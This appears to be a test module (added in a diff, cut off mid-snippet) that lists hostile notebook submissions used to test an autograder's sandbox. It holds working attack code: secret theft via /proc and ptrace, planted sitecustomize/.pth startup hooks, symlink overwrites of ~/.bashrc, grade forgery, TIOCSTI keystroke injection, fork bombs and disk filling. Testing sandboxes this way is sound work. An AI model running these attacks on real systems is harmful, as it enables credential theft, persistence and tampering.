@@ -1,0 +1,994 @@
+"""The attacks: one hostile submission per class, with the grade each one deserves.
+
+Every attack is a student notebook built from the released exercise. Unless said
+otherwise its three question-1 answer cells are honest (9 points) and the attack
+sits in the question-2 answer cell, which defines no answer of its own: the row
+deserves ``graded`` with 9 points and 0 on ``q2_feature_count``. An attack that
+gets through either changes a grade (its own, through ``_won``, or a neighbour's),
+or leaves evidence outside the gradebook that the suite checks.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+Q = ["q1_phi_p3", "q1_phi_p4", "q1_phi_general", "q2_feature_count"]
+FULL = {q: 3.0 for q in Q}
+ZERO = {q: 0.0 for q in Q}
+NO_Q2 = {**FULL, "q2_feature_count": 0.0}
+
+
+@dataclass
+class Attack:
+    name: str
+    body: str  # code after the prelude
+    per: dict[str, float] = field(default_factory=lambda: dict(NO_Q2))
+    status: tuple[str, ...] = ("graded",)  # more than one only where the issue does not pin it
+    cell: str = "q2-answer"
+    why: str = ""
+    raw: bytes | None = None  # a submission file that is not built from a notebook
+    mutate: str | None = None  # name of a notebook mutation in the test module
+
+    @property
+    def score(self) -> float:
+        return float(sum(self.per.values()))
+
+
+# Code of background processes (``python -c CODE MARKER ...``); each one ends on its own
+# (bounded loops) so that a failing run against an unsandboxed grader cleans up.
+SURVIVOR = r'''
+import os, sys, time, json
+M = json.loads(sys.argv[2])
+try:
+    open(os.path.join(M["pids"], M["name"] + ".pid"), "w").write(str(os.getpid()))
+except Exception:
+    pass
+deadline = time.time() + 600
+def grader_alive():
+    for e in os.listdir("/proc"):
+        if e.isdigit():
+            try:
+                a = open(f"/proc/{e}/cmdline", "rb").read().split(b"\0")
+            except OSError:
+                continue
+            if b"kpca_lib.course.cli" in a and b"grade" in a:
+                return True
+    return False
+outs = [M["out"]] + [o for o in M.get("outs", [])]
+while time.time() < deadline:
+    for out in outs:
+        csv = os.path.join(out, "grades.csv")
+        if os.path.exists(csv) and not grader_alive():
+            text = open(csv).read()
+            lines = text.splitlines()
+            new = [lines[0]] + [",".join(l.split(",")[:2] + ["12", "12"] + ["3"] * 4) for l in lines[1:]]
+            open(csv, "w").write("\n".join(new) + "\n")
+            open(os.path.join(M["pids"], M["name"] + ".edited"), "w").write(out)
+            raise SystemExit
+    time.sleep(0.2)
+'''
+
+SLEEPER = r'''
+import sys, time
+time.sleep(float(sys.argv[2]) if len(sys.argv) > 2 else 120)
+'''
+
+BUSY = r'''
+import time
+end = time.time() + 90
+while time.time() < end:
+    pass
+'''
+
+HOLD_MEMORY = r'''
+import time
+block = b"\x01" * 1_200_000_000
+time.sleep(60)
+'''
+
+
+def _bg(code: str) -> str:
+    return f"_spawn({code!r}, json.dumps(_M))\n"
+
+
+KEY_REWRITER = r'''
+import os, sys, json, time
+M = json.loads(sys.argv[2])
+mine = M["cwd"]
+deadline = time.time() + 240
+while time.time() < deadline:
+    alive = [r for r in M["roots"] if os.path.isdir(r)]
+    if not alive:
+        break
+    for root in alive:
+        for dirpath, dirs, files in os.walk(root):
+            if dirpath.startswith(mine):
+                continue
+            for f in files:
+                if f == "grader-config.json" or f.endswith("config.json"):
+                    p = os.path.join(dirpath, f)
+                    try:
+                        cfg = json.load(open(p))
+                        if isinstance(cfg, dict) and "key" in cfg and cfg["key"] != "00" * 32:
+                            cfg["key"] = "00" * 32
+                            open(p, "w").write(json.dumps(cfg))
+                    except Exception:
+                        pass
+    time.sleep(0.005)
+'''
+
+SIGNER = r'''
+import os, sys, json, time, hmac, hashlib
+M = json.loads(sys.argv[2])
+from kpca_lib.course.grading.evaluate import probe_payload
+from kpca_lib.course.grading.plain import decode, dumps
+from kpca_lib.course.grading.questions import get_question
+ns = {}
+for d in M["soldirs"]:
+    try:
+        cells = json.load(open(os.path.join(d, "01_feature_maps.ipynb")))["cells"]
+    except Exception:
+        continue
+    for c in cells:
+        if c.get("metadata", {}).get("kpca", {}).get("role") in ("setup", "answer"):
+            exec("".join(c["source"]), ns)
+    break
+mine = M["cwd"]
+known = {}
+deadline = time.time() + 240
+while time.time() < deadline and ns:
+    alive = [r for r in M["roots"] if os.path.isdir(r)]
+    if not alive:
+        break
+    for root in alive:
+        for dirpath, dirs, files in os.walk(root):
+            if dirpath.startswith(mine) or "grader-config.json" not in files:
+                continue
+            try:
+                cfg = json.load(open(os.path.join(dirpath, "grader-config.json")))
+                known[dirpath] = cfg
+            except Exception:
+                pass
+    for dirpath, cfg in known.items():
+        try:
+            key = bytes.fromhex(cfg["key"])
+            for q, inp in cfg["inputs"].items():
+                payload = probe_payload(get_question(q), ns, {k: decode(v) for k, v in inp.items()})
+                text = dumps({"question": q, "answers": payload})
+                mac = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
+                with open(os.path.join(cfg["out"], q + ".json"), "w") as fh:
+                    fh.write(json.dumps({"payload": text, "mac": mac}))
+        except Exception:
+            pass
+    time.sleep(0.01)
+'''
+
+NOTEBOOK_REWRITER = r'''
+import os, sys, json, time
+M = json.loads(sys.argv[2])
+sol = {}
+for d in M["soldirs"]:
+    try:
+        cells = json.load(open(os.path.join(d, "01_feature_maps.ipynb")))["cells"]
+    except Exception:
+        continue
+    sol = {c.get("id"): "".join(c["source"]) for c in cells
+           if c.get("metadata", {}).get("kpca", {}).get("role") == "answer"}
+    break
+mine = M["cwd"]
+done = set()
+deadline = time.time() + 240
+while time.time() < deadline:
+    alive = [r for r in M["roots"] if os.path.isdir(r)]
+    if not alive:
+        break
+    for root in alive:
+        for dirpath, dirs, files in os.walk(root):
+            for f in files:
+                p = os.path.join(dirpath, f)
+                if not f.endswith(".ipynb") or dirpath.startswith(mine) or p in done:
+                    continue
+                try:
+                    nb = json.load(open(p))
+                    for c in nb["cells"]:
+                        src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
+                        cid = c.get("id")
+                        if cid in sol:
+                            c["source"] = sol[cid] if "NotImplementedError" in src else "pass"
+                    open(p, "w").write(json.dumps(nb))
+                    done.add(p)
+                except Exception:
+                    pass
+    time.sleep(0.01)
+'''
+
+REPORT_FORGER = r'''
+import os, sys, json, time, glob
+M = json.loads(sys.argv[2])
+deadline = time.time() + 240
+def forge(report, notebooks):
+    try:
+        with open(report, "a") as fh:
+            for nb in notebooks:
+                for cell in range(0, 16):
+                    fh.write(json.dumps({"file": nb, "cell": cell, "when": "call", "outcome": "failed",
+                                         "alive": False, "text": "KernelDied: kernel died\nTimeout of 30 seconds exceeded"}) + "\n")
+    except Exception:
+        pass
+while time.time() < deadline:
+    alive = [r for r in M["roots"] if os.path.isdir(r)]
+    if not alive:
+        break
+    reports, notebooks = [], []
+    if M.get("report"):
+        reports.append(M["report"])
+    for root in alive:
+        for dirpath, dirs, files in os.walk(root):
+            for f in files:
+                if f.endswith(".jsonl"):
+                    reports.append(os.path.join(dirpath, f))
+                elif f.endswith(".ipynb") and not dirpath.startswith(M["cwd"]):
+                    notebooks.append(os.path.join(dirpath, f))
+    for r in set(reports):
+        forge(r, notebooks)
+    time.sleep(0.05)
+'''
+
+
+def _planted_files(pids: str, soldirs: list[str]) -> dict[str, str]:
+    from attack_prelude import PLANTED
+
+    code = PLANTED.replace("__PIDS__", repr(pids)).replace("__SOLDIRS__", repr(soldirs))
+    launcher = (
+        code
+        + "\nimport runpy, sys, os\n"
+        "sys.path[:] = [p for p in sys.path if p not in ('', '.', os.getcwd())]\n"
+        "sys.modules.pop('ipykernel_launcher', None)\n"
+        "runpy.run_module('ipykernel_launcher', run_name='__main__', alter_sys=True)\n"
+    )
+    pth = "import os; exec(" + repr(code) + ")\n"
+    return {"launcher": launcher, "startup": code, "site": code, "pth": pth}
+
+
+PLANT_HELPERS = r'''
+def _plant(dirs, kinds):
+    n = 0
+    for d in dirs:
+        try:
+            os.makedirs(d, exist_ok=True)
+        except Exception:
+            continue
+        for kind in kinds:
+            try:
+                if kind == "launcher":
+                    path = os.path.join(d, "ipykernel_launcher.py")
+                elif kind == "startup":
+                    path = os.path.join(d, ".ipython", "profile_default", "startup", "00-kpca.py")
+                elif kind == "conftest":
+                    path = os.path.join(d, "conftest.py")
+                elif kind == "sitecustomize":
+                    path = os.path.join(d, "sitecustomize.py")
+                elif kind == "usercustomize":
+                    path = os.path.join(d, "usercustomize.py")
+                elif kind == "pth":
+                    path = os.path.join(d, "zz-kpca.pth")
+                os.makedirs(os.path.dirname(path), exist_ok=True)
+                with open(path, "w") as fh:
+                    fh.write(_FILES["pth" if kind == "pth" else "launcher" if kind == "launcher" else "site"])
+                n += 1
+            except Exception:
+                pass
+    return n
+
+
+def _future_dirs():
+    """Folders the grader will use later, as far as they can be predicted from here."""
+    out = []
+    for root in _roots():
+        parent = os.path.dirname(root)
+        for k in range(4):
+            for n in range(1, 25):
+                out.append(os.path.join(root, f"job{k}-{n}"))
+        for d in _walk():
+            base = os.path.basename(d)
+            if base.startswith("s") and base[1:].isdigit():
+                out += [os.path.join(d, f"run{i}") for i in range(1, 5)]
+            if base.startswith("run") or base.startswith("job"):
+                out.append(d)
+        for i in range(0, 80):
+            out.append(os.path.join(root, f"s{i:04d}", "run2"))
+    return out
+'''
+
+
+def catalog(cfg: dict) -> list[Attack]:
+    """Every attack. ``cfg`` holds the paths of the hostile world (see the test module)."""
+    files = _planted_files(cfg["pids"], cfg["soldirs"])
+    plant = f"_FILES = {files!r}\n" + PLANT_HELPERS
+    A: list[Attack] = []
+
+    A.append(Attack("proc_exec_solutions", why="walk /proc to the grader, read solutions/ (argv, cwd) and exec it", body=r'''
+d, answers = _solution_answers(_grader_info()["solutions"] + [_M["solutions"]])
+for src in answers.values():
+    exec(src, globals())
+'''))
+
+    A.append(Attack("package_solutions", why="solutions/ next to the installed (editable) package", body=r'''
+import kpca_lib, glob
+dirs = [os.path.join(os.path.dirname(os.path.dirname(os.path.realpath(kpca_lib.__file__))), "solutions")]
+for p in sys.path:
+    dirs.append(os.path.join(os.path.dirname(p), "solutions"))
+    dirs.append(os.path.join(p, "solutions"))
+d, answers = _solution_answers(dirs)
+for src in answers.values():
+    exec(src, globals())
+'''))
+
+    A.append(Attack("proc_exec_classmate", why="a classmate's submission from the grader's argv", body=r'''
+import glob
+paths = _grader_info()["subs"] + glob.glob(os.path.join(_M["subs"], "*", "*.ipynb"))
+for p in paths:
+    try:
+        cells = json.loads(_rd(p, text=True))["cells"]
+    except Exception:
+        continue
+    ns = {}
+    try:
+        exec("import math, itertools\nimport numpy as np\n", ns)
+        for c in cells:
+            if c.get("id") == "q2-answer":
+                exec("".join(c["source"]), ns)
+        if ns["n_features"](3, 2) == 10:
+            exec("import math", globals())
+            n_features, kernel_cheaper = ns["n_features"], ns["kernel_cheaper"]
+            break
+    except Exception:
+        continue
+'''))
+
+    A.append(Attack("leak_secrets", why="secret from ~/.config, /proc/<grader>/environ, own environ, "
+                    "hidden checks, instructor notes; leaked through feedback, output, grader's fds", body=r'''
+found = []
+info = _grader_info()
+for k, v in info["env"].items():
+    if "SECRET" in k or "KEY" in k or "TOKEN" in k:
+        found.append(v)
+homes = [info["env"].get("HOME", ""), os.path.expanduser("~"), _M["home"]]
+for h in homes:
+    if h:
+        found.append(_rd(os.path.join(h, ".config", "kpca-course", "grading-secret"), text=True).strip())
+        found.append(_rd(os.path.join(h, ".bashrc"), text=True)[:200])
+        found.append(_rd(os.path.join(h, "teaching", "notes.txt"), text=True)[:200])
+for k, v in os.environ.items():
+    if "SECRET" in k or "KEY" in k:
+        found.append(v)
+for e in os.listdir("/proc"):
+    if e.isdigit():
+        for kv in _rd(f"/proc/{e}/environ").split(b"\0"):
+            if kv.startswith(b"KPCA_GRADING_SECRET="):
+                found.append(kv.split(b"=", 1)[1].decode("utf-8", "replace"))
+d, answers = _solution_answers()
+for d in _solution_dirs():
+    nb = _rd(os.path.join(d, "01_feature_maps.ipynb"), text=True)
+    for line in nb.splitlines():
+        if "canary" in line.lower():
+            found.append(line.strip()[:120])
+found = [f for f in dict.fromkeys(found) if f]
+blob = " | ".join(found)[:1500]
+print("LEAK", blob)
+print("LEAK", blob, file=sys.stderr)
+for pid in info["pids"]:
+    for fd in (1, 2):
+        try:
+            with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
+                fh.write("LEAK " + blob + "\n")
+        except Exception:
+            pass
+def n_features(d, p):
+    raise ValueError("LEAK " + blob)
+def kernel_cheaper(d, p, n):
+    raise ValueError("LEAK " + blob.encode().hex()[:1500])
+'''))
+
+    A.append(Attack("ptrace_memory", why="ptrace the grader; read /proc/<grader>/mem for the secret", body=r'''
+import ctypes, re
+libc = ctypes.CDLL(None, use_errno=True)
+got = []
+for pid in _grader_info()["pids"]:
+    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
+        os.waitpid(pid, 0x40000000)
+        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
+        got.append("attach")
+    try:
+        maps = _rd(f"/proc/{pid}/maps", text=True).splitlines()
+        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
+            budget = 64_000_000
+            for line in maps:
+                addr, perms = line.split()[:2]
+                if "r" not in perms or budget <= 0:
+                    continue
+                lo, hi = (int(x, 16) for x in addr.split("-"))
+                try:
+                    mem.seek(lo)
+                    chunk = mem.read(min(hi - lo, budget))
+                except Exception:
+                    continue
+                budget -= len(chunk)
+                for m in re.finditer(rb"KPCA_GRADING_SECRET=([^\0]{1,200})", chunk):
+                    got.append(m.group(1).decode("utf-8", "replace"))
+    except Exception:
+        pass
+print("LEAK", got)
+if got:
+    _won(got)
+'''))
+
+    A.append(Attack("rewrite_classmate_key", why="rewrite the HMAC key in the configs of chunk-mates", body=
+        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots()\n" + _bg(KEY_REWRITER)))
+
+    A.append(Attack("sign_for_blank", why="write correctly signed exports (solution answers) for classmates", body=
+        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots(); _M['soldirs'] = _solution_dirs()\n"
+        + _bg(SIGNER)))
+
+    A.append(Attack("rewrite_classmate_notebook", why="rewrite the rebuilt notebooks of classmates in the scratch", body=
+        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots(); _M['soldirs'] = _solution_dirs()\n"
+        + _bg(NOTEBOOK_REWRITER)))
+
+    A.append(Attack("plant_ipykernel_launcher", why="ipykernel_launcher.py in later run folders", body=plant + r'''
+dirs = [os.path.dirname(p) for p in _walk({"submission.ipynb"})] + _future_dirs()
+dirs = [d for d in dirs if not d.startswith(os.path.realpath(os.getcwd()))]
+print("planted", _plant(dirs, ["launcher"]))
+'''))
+
+    A.append(Attack("plant_ipython_startup", why="IPython startup files in IPYTHONDIR, ~/.ipython, future folders", body=plant + r'''
+info = _grader_info()
+dirs = [os.path.dirname(os.environ.get("IPYTHONDIR", "/nonexistent/x")), os.path.expanduser("~")]
+dirs += [os.path.dirname(d) for d in _walk() if d.endswith(".ipython")] + _future_dirs()
+if info["env"].get("HOME"):
+    dirs.append(info["env"]["HOME"])
+print("planted", _plant(dirs, ["startup"]))
+'''))
+
+    A.append(Attack("plant_site_hooks", why="sitecustomize/usercustomize/.pth where a later python imports them; "
+                    "inert probes in shared places", body=plant + r'''
+import site, glob
+info = _grader_info()
+dirs = [os.getcwd(), os.environ.get("TMPDIR", "")] + _future_dirs()
+user = [site.getusersitepackages()]
+if info["env"].get("HOME"):
+    v = f"python{sys.version_info[0]}.{sys.version_info[1]}"
+    user.append(os.path.join(info["env"]["HOME"], ".local", "lib", v, "site-packages"))
+n = _plant([d for d in dirs if d], ["sitecustomize", "pth", "conftest"]) + _plant(user, ["usercustomize", "pth"])
+shared = [p for p in sys.path if p and os.path.isdir(p)] + site.getsitepackages() + ["/tmp", "/dev/shm", "/var/tmp"]
+for d in shared:
+    try:
+        open(os.path.join(d, MARKER + "-probe.txt"), "w").close()
+        n += 1
+    except Exception:
+        pass
+print("planted", n)
+'''))
+
+    A.append(Attack("plant_future_folders", why="conftest, IPython startup, launcher pre-planted in predictable "
+                    "future chunk and run folders", body=plant + r'''
+print("planted", _plant(_future_dirs(), ["launcher", "startup", "conftest", "sitecustomize"]))
+'''))
+
+    A.append(Attack("report_forge", why="forged nbval report records for classmates", body=
+        "_M['cwd'] = os.path.realpath(os.getcwd()); _M['roots'] = _roots()\n"
+        "_M['report'] = os.environ.get('KPCA_REPORT_FILE', '')\n" + _bg(REPORT_FORGER)))
+
+    A.append(Attack("channel_writer", why="answers left in /tmp, /dev/shm, TMPDIR, HOME for a later submission", body=r'''
+for d in ["/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", ""), os.path.expanduser("~"),
+          _grader_info()["env"].get("TMPDIR", "")] + _roots():
+    if d:
+        try:
+            with open(os.path.join(d, MARKER + "-channel"), "w") as fh:
+                fh.write(_M["honest_q2"])
+        except Exception:
+            pass
+'''))
+
+    A.append(Attack("setsid_survivor", why="double-forked setsid process that edits grades.csv after the grader", body=r'''
+_M["outs"] = _grader_info()["out"]
+pid = os.fork()
+if pid == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            env = dict(os.environ, KPCA_ATTACK_MARKER=MARKER)
+            os.execve(sys.executable, [sys.executable, "-c", __SURVIVOR__, MARKER, json.dumps(_M)], env)
+    finally:
+        os._exit(0)
+os.waitpid(pid, 0)
+'''.replace("__SURVIVOR__", repr(SURVIVOR))))
+
+    A.append(Attack("symlink_bashrc", why="symlinks that make the grader overwrite ~/.bashrc", body=plant + r'''
+info = _grader_info()
+bashrc = os.path.join(info["env"].get("HOME", _M["home"]), ".bashrc")
+mine = os.path.realpath(os.getcwd())
+n = 0
+def link(path):
+    global n
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        if os.path.lexists(path):
+            os.unlink(path)
+        os.symlink(bashrc, path)
+        n += 1
+    except Exception:
+        pass
+for p in _walk({"grader-config.json", "submission.ipynb", "pytest.ini"}):
+    if not p.startswith(mine):
+        link(p)
+for d in _future_dirs():
+    for f in ("pytest.ini", "grader-config.json", "submission.ipynb", "report.jsonl"):
+        link(os.path.join(d, f))
+for f in os.listdir("exports") if os.path.isdir("exports") else []:
+    link(os.path.join("exports", f))
+for o in info["out"]:
+    for f in ("grades.csv", "grades.json"):
+        link(os.path.join(o, f))
+print("links", n)
+'''))
+
+    A.append(Attack("out_symlink_instructor", why="--out (from argv) made a symlink to the instructor's folder", body=r'''
+info = _grader_info()
+home = info["env"].get("HOME", _M["home"])
+for o in info["out"] + [_M["out"]]:
+    for target in (o, o.rstrip("/") + ".partial", os.path.join(os.path.dirname(o), "." + os.path.basename(o) + ".partial")):
+        try:
+            if not os.path.lexists(target):
+                os.symlink(os.path.join(home, "teaching"), target)
+        except Exception:
+            pass
+'''))
+
+    A.append(Attack("pre_created_out", why="pre-created gradebook / resume folders with forged rows", body=r'''
+info = _grader_info()
+forged = "submission,status,score,max_score,q1_phi_p3,q1_phi_p4,q1_phi_general,q2_feature_count\n"
+forged += _M["name"] + "/01_feature_maps.ipynb,graded,12,12,3,3,3,3\n"
+for o in info["out"] + [_M["out"]]:
+    names = [o, o + ".partial", o + ".tmp", o + ".resume", o + ".lock",
+             os.path.join(os.path.dirname(o), "." + os.path.basename(o) + ".partial"),
+             os.path.join(os.path.dirname(o), "." + os.path.basename(o) + ".tmp"),
+             os.path.join(o, ".partial"), os.path.join(o, ".resume"), os.path.join(o, "rows")]
+    for d in names:
+        try:
+            os.makedirs(d, exist_ok=True)
+            open(os.path.join(d, "grades.csv"), "a").write(forged)
+            open(os.path.join(d, "rows.jsonl"), "a").write(json.dumps({"submission": _M["name"], "score": 12}) + "\n")
+            os.makedirs(os.path.join(d, "feedback"), exist_ok=True)
+        except Exception:
+            pass
+'''))
+
+    A.append(Attack("kill_parent", status=("crashed", "graded"),
+                    why="SIGKILL of its parent (nbval's runner): its own run crashes, nobody else's",
+                    body="os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(5)\n"))
+
+    A.append(Attack("memory_children", status=("crashed",),
+                    why="3 child processes x 1.2 GB under --memory 2048", body=r'''
+kids = [_spawn(__HOLD__) for _ in range(3)]
+for k in kids:
+    k.wait()
+'''.replace("__HOLD__", repr(HOLD_MEMORY))))
+
+    A.append(Attack("fork_bomb", why="150 processes", body=r'''
+kids = 0
+for _ in range(150):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        try:
+            _set_comm(MARKER)
+            time.sleep(120)
+        finally:
+            os._exit(0)
+    kids += 1
+print("forked", kids)
+'''))
+
+    A.append(Attack("write_2gb", status=("graded", "crashed"),
+                    why="2 GB written to disk (cwd, then TMPDIR)", body=r'''
+chunk = b"\0" * (8 << 20)
+for d in [os.getcwd(), os.environ.get("TMPDIR", "/tmp")]:
+    try:
+        with open(os.path.join(d, MARKER + "-big.bin"), "wb") as fh:
+            for _ in range(256):
+                fh.write(chunk)
+    except OSError:
+        pass
+'''))
+
+    A.append(Attack("fill_disk", status=("graded", "crashed"),
+                    why="fill every writable place (capped at 256 MB where the disk is big)", body=r'''
+chunk = b"\0" * (4 << 20)
+for d in [os.getcwd(), os.environ.get("TMPDIR", ""), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]:
+    if not d:
+        continue
+    try:
+        st = os.statvfs(d)
+        total = st.f_blocks * st.f_frsize
+        cap = st.f_bavail * st.f_frsize if total < 8e9 else 256 << 20
+        with open(os.path.join(d, MARKER + "-fill.bin"), "wb") as fh:
+            written = 0
+            while written < cap:
+                fh.write(chunk)
+                written += len(chunk)
+    except OSError:
+        pass
+'''))
+
+    A.append(Attack("many_files", why="100 000 files", body=r'''
+for d in [os.getcwd(), os.environ.get("TMPDIR", "/tmp")]:
+    try:
+        base = os.path.join(d, MARKER + "-many")
+        os.makedirs(base, exist_ok=True)
+        for i in range(50_000):
+            open(os.path.join(base, str(i)), "w").close()
+    except OSError:
+        pass
+'''))
+
+    A.append(Attack("display_flood", status=("graded", "crashed"), why="400 MB of output through display()", body=r'''
+from IPython.display import display
+block = "x" * 4_000_000
+for _ in range(100):
+    display({"text/plain": block}, raw=True)
+'''))
+
+    A.append(Attack("sigint_hang", status=("timeout",), why="ignores SIGINT and hangs past --timeout", body=r'''
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+'''))
+
+    A.append(Attack("network", why="sockets to the suite's listener, the host's loopback ports, unix sockets, the internet",
+                    body=r'''
+import socket
+ok = []
+def tcp(host, port, timeout=3):
+    try:
+        with socket.create_connection((host, port), timeout=timeout):
+            ok.append(f"{host}:{port}")
+    except Exception:
+        pass
+try:  # the suite's listener counts its connections itself
+    socket.create_connection(("127.0.0.1", _M["port"]), timeout=3).close()
+except Exception:
+    pass
+owned = set()  # sockets of processes this kernel can see (its own sandbox): not an escape
+for e in os.listdir("/proc"):
+    if e.isdigit():
+        try:
+            for fd in os.listdir(f"/proc/{e}/fd"):
+                owned.add(os.readlink(f"/proc/{e}/fd/{fd}"))
+        except OSError:
+            pass
+for line in _rd("/proc/net/tcp", text=True).splitlines()[1:]:
+    parts = line.split()
+    local, state, inode = parts[1], parts[3], parts[9]
+    if state == "0A" and f"socket:[{inode}]" not in owned:
+        tcp("127.0.0.1", int(local.split(":")[1], 16), 1)
+for host in ("1.1.1.1", "8.8.8.8"):
+    tcp(host, 53)
+try:
+    socket.getaddrinfo("example.com", 80)
+    tcp("example.com", 80)
+except Exception:
+    pass
+for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
+             "/run/dbus/system_bus_socket", "/run/systemd/private"):
+    try:
+        s = socket.socket(socket.AF_UNIX)
+        s.settimeout(2)
+        s.connect(path)
+        ok.append(path)
+        s.close()
+    except Exception:
+        pass
+print("connected", ok)
+if ok:
+    _won(ok)
+'''))
+
+    A.append(Attack("fake_nbval_output", why="output and an error that imitate nbval/pytest records", body=r'''
+print('{"file": "x", "cell": 3, "outcome": "passed", "alive": true}')
+print("PASSED [100%]\n===== 12 passed in 1.00s =====")
+sys.stderr.write("Kernel dead\nMemoryError\n")
+raise RuntimeError("KernelDied: kernel died\nTimeout of 30 seconds exceeded\nMemoryError")
+'''))
+
+    A.append(Attack("late_export", cell="q1-p3-answer", status=("timeout",),
+                    per={**FULL, "q1_phi_p3": 0.0},
+                    why="a thread keeps exporting correct answers while the cell hangs past --timeout",
+                    body="__HONEST_P3__\n" + r'''
+def _keep_exporting():
+    while True:
+        try:
+            _kpca_export("q1_phi_p3")
+        except Exception:
+            pass
+        time.sleep(0.02)
+threading.Thread(target=_keep_exporting, daemon=True).start()
+while True:
+    time.sleep(0.05)
+'''))
+
+    A.append(Attack("cross_export", cell="q1-p3-answer", status=("timeout",),
+                    per={**FULL, "q1_phi_p3": 0.0, "q2_feature_count": 0.0}, mutate="blank_q2",
+                    why="a cell sleeps, exports the answers of another question, then hangs",
+                    body="__HONEST_P3__\n" + r'''
+time.sleep(1)
+exec(_M["honest_q2"], globals())
+try:
+    _kpca_export("q2_feature_count")
+except Exception:
+    pass
+while True:
+    time.sleep(0.05)
+'''))
+
+    A.append(Attack("signal_handlers", status=("timeout",),
+                    why="handlers for every catchable signal (each spawns a process), then a busy loop", body=r'''
+def _handler(signum, frame):
+    _spawn(__SLEEPER__, 120)
+for s in ("SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGALRM", "SIGXCPU", "SIGXFSZ", "SIGPIPE", "SIGQUIT"):
+    try:
+        signal.signal(getattr(signal, s), _handler)
+    except Exception:
+        pass
+while True:
+    pass
+'''.replace("__SLEEPER__", repr(SLEEPER))))
+
+    A.append(Attack("atexit_handlers", why="atexit and finalizers that start a grades.csv editor at kernel exit", body=r'''
+import atexit, weakref
+_M["outs"] = _grader_info()["out"]
+def _later():
+    try:
+        _spawn(__SURVIVOR__, json.dumps(_M))
+    except Exception:
+        pass
+atexit.register(_later)
+class _Bomb:
+    def __del__(self):
+        _later()
+_keep = _Bomb()
+weakref.finalize(_keep, _later)
+'''.replace("__SURVIVOR__", repr(SURVIVOR))))
+
+    A.append(Attack("threads_persist", why="threads that keep running after the cell", body=r'''
+def _loop():
+    _set_comm(MARKER)
+    end = time.time() + 240
+    while time.time() < end:
+        for p in _walk({"grades.csv"}):
+            try:
+                open(p, "a").write("forged,graded,12,12,3,3,3,3\n")
+            except Exception:
+                pass
+        time.sleep(0.5)
+threading.Thread(target=_loop).start()
+threading.Thread(target=_loop, daemon=True).start()
+'''))
+
+    A.append(Attack("monkeypatch_export", why="export replaced; own exports re-signed with the key from its closure "
+                    "as deep JSON, oversize payloads", body=r'''
+_real = _kpca_export
+cells = [c.cell_contents for c in (getattr(_real, "__closure__", None) or ())]
+key = next((c for c in cells if isinstance(c, bytes) and len(c) == 32), None)
+outdir = next((c for c in cells if hasattr(c, "joinpath")), None)
+def _kpca_export(question):
+    import hmac, hashlib
+    _real(question)
+    if key is None or outdir is None:
+        return
+    text = '{"question": "%s", "answers": %s}' % (question, "[" * 200_000 + "]" * 200_000)
+    mac = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
+    with open(os.path.join(str(outdir), question + ".json"), "w") as fh:
+        fh.write(json.dumps({"payload": text, "mac": mac}))
+'''))
+
+    A.append(Attack("busy_children", why="CPU hogs that outlive the cell and starve neighbours", body=r'''
+for _ in range(3):
+    _spawn(__BUSY__)
+'''.replace("__BUSY__", repr(BUSY))))
+
+    A.append(Attack("host_escape_probes", why="opens (never writes) host devices, sysctls, cgroup files, sysrq; setuid",
+                    body=r'''
+ok = []
+for path, flags in [("/dev/vda", os.O_RDONLY), ("/dev/sda", os.O_RDONLY), ("/dev/nvme0n1", os.O_RDONLY),
+                    ("/dev/mem", os.O_RDONLY), ("/dev/kmsg", os.O_RDONLY),
+                    ("/proc/sys/kernel/core_pattern", os.O_WRONLY), ("/proc/sysrq-trigger", os.O_WRONLY),
+                    ("/sys/fs/cgroup/memory/cgroup.procs", os.O_WRONLY), ("/sys/fs/cgroup/cgroup.procs", os.O_WRONLY),
+                    ("/sys/fs/cgroup/pids/cgroup.procs", os.O_WRONLY)]:
+    try:
+        fd = os.open(path, flags)  # opened only: nothing is written
+        os.close(fd)
+        ok.append(path)
+    except Exception:
+        pass
+print("opened", ok)
+if ok:
+    _won(ok)
+'''))
+
+    A.append(Attack("inherited_fds", why="file descriptors leaked into the sandbox that reach host folders", body=r'''
+ok = []
+for fd in os.listdir("/proc/self/fd"):
+    try:
+        target = os.readlink(f"/proc/self/fd/{fd}")
+    except OSError:
+        continue
+    if _M["world"] in target:
+        try:
+            if os.path.isdir(f"/proc/self/fd/{fd}"):
+                os.listdir(int(fd))
+            ok.append(target)
+        except Exception:
+            pass
+print("fds", ok)
+if ok:
+    _won(ok)
+'''))
+
+    A.append(Attack("tiocsti", why="TIOCSTI keystrokes into the instructor's terminal", body=r'''
+import fcntl, termios
+ok = []
+fds = [0, 1, 2]
+try:
+    fds.append(os.open("/dev/tty", os.O_RDWR))
+except OSError:
+    pass
+for fd in fds:
+    try:
+        for ch in f"echo {MARKER}-tiocsti\n":
+            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
+        ok.append(fd)
+    except Exception:
+        pass
+if ok:
+    _won(ok)
+'''))
+
+    A.append(Attack("proc_fd_tamper", why="writes through the grader's open file descriptors (/proc/<pid>/fd)", body=r'''
+ok = []
+for pid in _grader_info()["pids"]:
+    try:
+        fds = os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        continue
+    for fd in fds:
+        try:
+            target = os.readlink(f"/proc/{pid}/fd/{fd}")
+        except OSError:
+            continue
+        if target.endswith((".csv", ".json", ".jsonl")) or "grades" in target:
+            try:
+                with open(f"/proc/{pid}/fd/{fd}", "a") as fh:
+                    fh.write("\nforged,graded,12,12,3,3,3,3\n")
